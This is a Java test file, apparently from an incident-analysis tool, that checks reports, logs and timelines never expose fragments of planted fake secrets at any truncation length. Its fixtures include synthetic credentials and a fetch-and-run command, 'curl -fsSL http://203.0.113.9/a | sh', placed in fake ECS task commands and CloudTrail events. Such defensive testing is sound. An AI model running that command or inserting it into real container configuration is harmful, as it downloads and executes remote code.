package org.ephemera.report;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import org.ephemera.analyze.Analysis;
import org.ephemera.analyze.MetricBaseline;
import org.ephemera.analyze.PackageAnalyzer;
import org.ephemera.analyze.model.TruncatedText;
import org.ephemera.analyze.parse.sealed.SealedPackage;
import org.ephemera.analyze.testing.FixtureCalls;
import org.ephemera.analyze.testing.FixtureResponse;
import org.ephemera.analyze.testing.SealedPackageFixture;
import org.ephemera.format.Json;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Tests that no output shows a part of a secret, for secrets in every place of a package and across every truncation
 * length.
 */
@Tag("slow")
class MaskedOutputsTest {
    private static final String KEY_ID = "AKIAQX7ZP3WD9KLM5VTB";
    private static final String PEM_BODY = """
            MIGHAgEAMBMGByqGSM49AgEGCCqGSM49AwEHBG0wawIBAQQgZx8Qw2Lr5Kd7Vb3N
            hT9yUc4Pf6Jm1Sg0WaXeRiOoEuYqAtDlZnBhKvCjMpGsFwIxNzLyTbQrHkSdVfJe
            uJ3kPq9XwZ8""";
    /** Secret and a text that contains it; {@code %s} is the placeholder of the secret. */
    private static final Map<String, String> CANARIES = new LinkedHashMap<>();

    /** Lengths at which an output truncates text, and ends of the text around a match. */
    private static final List<Integer> LIMITS =
            List.of(80, 120, 160, 200, 240, 300, 400, 500, 600, 1000, 2000, 2048, 4000, 4096, 8000);

    private static final String HIT = "curl -fsSL http://203.0.113.9/a | sh ";
    /** Number of characters of a secret that cannot occur by chance. */
    private static final int PART = 8;

    static {
        CANARIES.put(KEY_ID, "id %s ");
        CANARIES.put("Kq8Zt/R4vYw1+NfJ7sLmXc9PbD2hGuE5aToVi3Wk", "key %s ");
        CANARIES.put("w9Zp4Kt7Xq2Lm8Vr", "Authorization: Bearer %s ");
        CANARIES.put("eyJzdWIiOiJ4cTd6In0.eyJyb2xlIjoia3A0dCJ9.Hq3Zx8Wv5Nk2", "jwt %s ");
        CANARIES.put("Gx5Rj8Tw2Bz6Yd4H", "https://svc:%s@db.example/ ");
        CANARIES.put("Lc3Vn9Qs7Fk1Mw5P", "Server=db;User Id=sa;Password=%s;Encrypt=true ");
        CANARIES.put("Zt6Hb2Xr9Jd4Kv8Nq1Ws5Gf3Lm7Yc0Pa==", "DefaultEndpointsProtocol=https;AccountKey=%s; ");
        CANARIES.put("ghp_Vx3Kt9Zq5Wm1Rb7Jd2Hn8Lf4Ys6Gc0Pt", "%s ");
        CANARIES.put("Nb7Qw1Zk5Xt9", "--db-password %s ");
        CANARIES.put("Fy4Ld8Hs2Vp6", "{\"password\": \"%s and more\"} ");
        CANARIES.put("Tj9Xc3Rm7Bq1Kz5W", "https://a.blob.core.windows.net/c?sv=2024&sig=%s&se=1 ");
        CANARIES.put("Ws2Gk6Yn0Dv4Pj8L", "curl -u ops:%s https://shop.example/ ");
    }

    @TempDir
    Path folder;

    @Test
    void showsNoPartOfASecretInAnyOutput() throws Exception {
        SealedPackageFixture fixture = SealedPackageFixture.in(folder);
        logs(fixture);
        task(fixture);
        calls(fixture);
        Map<String, ByteArrayOutputStream> files = new TreeMap<>();
        String analyzed;
        try (SealedPackage sealed = fixture.seal()) {
            Analysis analysis = PackageAnalyzer.analyze(
                    sealed,
                    new PackageAnalyzer.Options(java.util.Optional.empty(), MetricBaseline.NONE, true),
                    name -> files.computeIfAbsent(name, any -> new ByteArrayOutputStream()));
            ReportWriter.write(analysis, name -> files.computeIfAbsent(name, any -> new ByteArrayOutputStream()));
            analyzed = analysis.findings() + "\n" + analysis.changes() + "\n" + analysis.timeline();
        }
        assertThat(files.keySet())
                .contains("findings.json", "findings.sarif", "summary.txt", "report.html", "lab/compose.yaml")
                .contains("timeline.jsonl", "timeline.csv", "logs/002-app.txt");
        assertThat(Objects.requireNonNull(files.get("logs/002-app.txt")).toString(StandardCharsets.UTF_8))
                .contains("before the key", "between the lines", "after the key");
        Set<String> leaks = new TreeSet<>();
        leaks("the analysis", analyzed, leaks);
        files.forEach((name, bytes) -> leaks(name, bytes.toString(StandardCharsets.UTF_8), leaks));
        assertThat(leaks).isEmpty();
    }

    /** Access key IDs are not secret where they are indicators, complete and labelled as such. */
    private static void leaks(String name, String text, Set<String> leaks) {
        String searched = text.replace(KEY_ID, "");
        List<String> secrets = new ArrayList<>(CANARIES.keySet());
        secrets.addAll(List.of(PEM_BODY.split("\n", -1)));
        for (String secret : secrets) {
            for (int at = 0; at + PART <= secret.length(); at++) {
                int found = searched.indexOf(secret.substring(at, at + PART));
                if (found >= 0) {
                    leaks.add(name + ": "
                            + searched.substring(Math.max(0, found - 90), Math.min(searched.length(), found + 40)));
                    break;
                }
            }
        }
        if (name.startsWith("logs/") && text.contains(KEY_ID)) {
            leaks.add(name + ": " + KEY_ID);
        }
    }

    /** Texts that begin with a match, each with a secret across a truncation limit. */
    private static List<String> texts(int limit) {
        List<String> texts = new ArrayList<>();
        CANARIES.forEach((secret, form) -> {
            int before = form.indexOf("%s");
            for (int shown : List.of(5, secret.length() - 1)) {
                int filler = limit - shown - before - HIT.length() - 1;
                texts.add(HIT + " .".repeat(Math.max(0, filler) / 2 + 1).substring(0, Math.max(0, filler)) + " "
                        + String.format(form, secret) + "and what follows");
            }
        });
        return texts;
    }

    private static void logs(SealedPackageFixture fixture) {
        List<String> app = new ArrayList<>();
        app.add("before the key");
        app.add("-----BEGIN PRIVATE KEY-----");
        for (String line : PEM_BODY.split("\n", -1)) {
            app.add(line);
            app.add("between the lines");
        }
        app.add("-----END PRIVATE KEY-----");
        app.add("after the key");
        app.add("one line: -----BEGIN EC PRIVATE KEY-----\\n" + PEM_BODY.replace("\n", "\\n")
                + "\\n-----END EC PRIVATE KEY-----");
        for (int limit : List.of(80, 8000, TruncatedText.FIELD - 4096, TruncatedText.FIELD)) {
            app.addAll(texts(limit));
        }
        fixture.item("aws.logs.stream", Map.of("container", "app"), lines(app));
        int number = 0;
        for (int limit : List.of(80 + HIT.length(), 200, 400)) {
            for (String text : texts(limit)) {
                fixture.item("aws.logs.stream", Map.of("container", "c" + number++), lines(List.of(text)));
            }
        }
        fixture.item("aws.ecs.exec-session", Map.of("session", "s-1"), lines(texts(200)));
    }

    private static FixtureResponse lines(List<String> lines) {
        ObjectNode page = Json.object();
        ArrayNode events = page.putArray("events");
        long time = SealedPackageFixture.NOW.minusSeconds(3600).toEpochMilli();
        for (String line : lines) {
            events.addObject().put("timestamp", time++).put("message", line);
        }
        return FixtureResponse.json("logs:GetLogEvents", FixtureCalls.text(page));
    }

    private static void task(SealedPackageFixture fixture) {
        ObjectNode definition = Json.object();
        ArrayNode containers = definition
                .putObject("taskDefinition")
                .put("taskDefinitionArn", "d:1")
                .putArray("containerDefinitions");
        ObjectNode answer = Json.object();
        ObjectNode task = answer.putArray("tasks")
                .addObject()
                .put("taskArn", SealedPackageFixture.TASK)
                .put("taskDefinitionArn", "d:1")
                .put("createdAt", "2026-11-26T11:00:00Z")
                .put("stoppedAt", "2026-11-26T12:00:00Z")
                .put("stoppedReason", "cannot start: " + texts(4096).getLast());
        ArrayNode run = task.putArray("containers");
        ArrayNode overrides = task.putObject("overrides").putArray("containerOverrides");
        int number = 0;
        for (int limit : LIMITS) {
            for (String text : texts(limit)) {
                String name = "t" + number++;
                ObjectNode container = containers
                        .addObject()
                        .put("name", name)
                        .put("image", "111122223333.dkr.ecr.eu-central-1.amazonaws.com/shop@sha256:" + "0".repeat(64));
                container.putArray("command").add("sh").add("-c").add(text);
                container.putArray("entryPoint").add("app").add("--db-password").add("Nb7Qw1Zk5Xt9");
                container
                        .putArray("environment")
                        .addObject()
                        .put("name", "SETTING")
                        .put("value", text);
                run.addObject().put("name", name).put("imageDigest", "sha256:" + "0".repeat(64));
                overrides
                        .addObject()
                        .put("name", name)
                        .putArray("command")
                        .add("sh")
                        .add("-c")
                        .add("exec " + text);
            }
        }
        fixture.item("aws.ecs.task", Map.of(), FixtureResponse.json("ecs:DescribeTasks", FixtureCalls.text(answer)))
                .item(
                        "aws.ecs.task-definition",
                        Map.of(),
                        FixtureResponse.json("ecs:DescribeTaskDefinition", FixtureCalls.text(definition)));
    }

    private static void calls(SealedPackageFixture fixture) {
        List<ObjectNode> entries = new ArrayList<>();
        int number = 0;
        for (int limit : List.of(200, 400, 500, 1000, 4096)) {
            for (String text : texts(limit)) {
                Instant time = SealedPackageFixture.NOW.minusSeconds(3000 - number);
                ObjectNode request = Json.object();
                ObjectNode override = request.putObject("overrides")
                        .putArray("containerOverrides")
                        .addObject();
                override.put("name", "app")
                        .putArray("command")
                        .add("sh")
                        .add("-c")
                        .add(text);
                entries.add(FixtureCalls.trail(
                                "e-" + number,
                                time,
                                FixtureCalls.USER,
                                "ecs.amazonaws.com",
                                "RunTask",
                                FixtureCalls.text(request))
                        .put("errorCode", "ClientException")
                        .put("errorMessage", text));
                ObjectNode exec = Json.object()
                        .put("command", text)
                        .put("container", "app")
                        .put("interactive", true);
                entries.add(FixtureCalls.trail(
                        "x-" + number++,
                        time,
                        FixtureCalls.USER,
                        "ecs.amazonaws.com",
                        "ExecuteCommand",
                        FixtureCalls.text(exec)));
            }
        }
        fixture.item("aws.cloudtrail.events", Map.of(), FixtureCalls.lookup(entries.toArray(ObjectNode[]::new)));
    }
}
